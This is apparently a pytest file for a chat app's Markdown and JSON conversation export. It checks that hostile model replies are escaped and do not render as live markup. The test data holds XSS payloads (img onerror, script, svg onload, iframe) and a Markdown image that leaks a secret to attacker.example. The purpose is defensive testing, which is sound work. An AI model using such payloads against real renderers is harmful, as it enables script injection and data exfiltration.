"""The exports, from a real conversation (the real SDK against the loopback API, a real SQLite file):
the Markdown one stays inert when a common Markdown renderer (markdown-it-py, raw HTML on) shows it."""

from __future__ import annotations

import json
import re

from markdown_it import MarkdownIt

from chat_core import settings_from_env
from chat_core.backends import make_backend
from chat_core.export import to_json, to_markdown
from chat_core.session import ChatSession
from chat_core.storage import Store
from tests.loopback_api import reply

VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

HOSTILE_REPLIES = [
    "an inline ~~~ then <img src=x onerror=alert(1)>",
    "~~~ <img src=x onerror=alert(7)>\na fence left open: must not swallow the next messages",
    "an escaped \\` backtick <img src=x onerror=alert(2)> `",
    "an unclosed mid-line ``` fence <img src=x onerror=alert(3)>",
    "![leak](http://attacker.example/leak?d=secret) and ![ref][r]\n\n[r]: http://attacker.example/ref",
    "<script>\nalert(4)\n\n</script>",
    "```html\n<b>shown as written</b>\n```",
]


def conversation(tmp_path, api, title: str, system: str) -> ChatSession:
    settings = settings_from_env(system=system)
    chat = ChatSession.start(Store(f"sqlite:///{tmp_path / 'chat.db'}"), make_backend(settings.backend, settings.model),
                             settings)
    api.queue(*[reply(text) for text in HOSTILE_REPLIES])
    for i in range(len(HOSTILE_REPLIES)):
        list(chat.send(f"question {i} <svg onload=alert(5)>"))
    chat.store.rename(chat.conversation_id, title, chat.owner)
    return chat


def test_the_markdown_export_renders_with_no_live_markup_and_no_remote_image(tmp_path, api):
    chat = conversation(tmp_path, api, title='**x** <img src=y onerror="alert(6)">',
                        system="Be brief. <iframe src=http://attacker.example/persona>")
    exported = to_markdown(chat, chat.store.load(chat.conversation_id).info.title)
    html = VIEWER.render(exported)
    assert not re.search(r"<(img|script|svg|iframe)\b", html), html
    assert not re.search(r"<[^>]*\son\w+=", html)
    assert 'href="http://attacker.example/leak?d=secret"' in html and "attacker.example" in re.sub(r"<[^>]+>", "", html)
    for i in (1, 2, 3):
        assert f"&lt;img src=x onerror=alert({i})&gt;" in html  # shown, as text
    assert "<h1>**x** &lt;img src=y onerror=&quot;alert(6)&quot;&gt;</h1>" in html  # the title: plain text
    assert "<pre><code class=\"language-html\">&lt;b&gt;shown as written&lt;/b&gt;" in html  # code as written
    assert html.count("&lt;svg onload=alert(5)&gt;") == len(HOSTILE_REPLIES)  # no message swallowed the rest
    assert f"<p><em>{len(HOSTILE_REPLIES)} turns" in html


def test_the_json_export_keeps_the_text_as_it_came(tmp_path, api):
    chat = conversation(tmp_path, api, title="t", system="s")
    data = json.loads(to_json(chat, "t"))
    assert [m["text"] for m in data["messages"] if m["role"] == "assistant"] == HOSTILE_REPLIES


def test_html_in_code_stays_as_written_and_html_outside_is_escaped(tmp_path, api):
    text = 'Look: <img src=x onerror="alert(1)"> & `<b>code</b>`\n```html\n<script>ok in a fence</script>\n```'
    api.queue(reply(text))
    settings = settings_from_env()
    chat = ChatSession.start(Store(f"sqlite:///{tmp_path / 'chat.db'}"), make_backend(settings.backend, settings.model),
                             settings)
    list(chat.send("q"))
    assert ('Look: &lt;img src=x onerror="alert(1)"> & `<b>code</b>`\n```html\n<script>ok in a fence</script>\n```'
            in to_markdown(chat))
